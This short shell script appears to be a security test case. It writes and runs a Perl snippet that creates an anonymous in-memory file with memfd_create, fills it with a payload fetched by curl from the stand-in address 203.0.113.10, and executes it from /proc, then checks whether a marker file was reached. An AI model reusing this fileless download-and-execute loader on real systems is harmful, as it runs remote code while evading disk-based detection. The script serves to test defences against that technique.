#!/bin/sh
. /opt/case/case.sh

cat >/tmp/m.pl <<'END'
my $n = "a"; my $f = syscall(319, $n, 0); open my $o, ">&=", $f; select $o; $| = 1;
print $o `curl -s http://203.0.113.10/payload.sh`; select STDOUT; my $p = $$;
system("sh", "/proc/$p/fd/$f");
END
perl /tmp/m.pl
test -e /tmp/reached
took_place
